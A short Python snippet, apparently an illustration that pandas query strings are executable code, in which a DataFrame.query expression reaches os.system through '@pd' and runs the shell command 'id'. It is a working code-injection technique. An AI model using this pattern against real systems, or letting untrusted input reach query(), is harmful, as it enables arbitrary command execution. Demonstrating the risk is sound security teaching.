# A literal query string is still code: @pd reaches pandas and its os.
import pandas as pd

df = pd.read_csv("/data/sales.csv")
df.query('@pd.io.common.os.system("id") == 0')
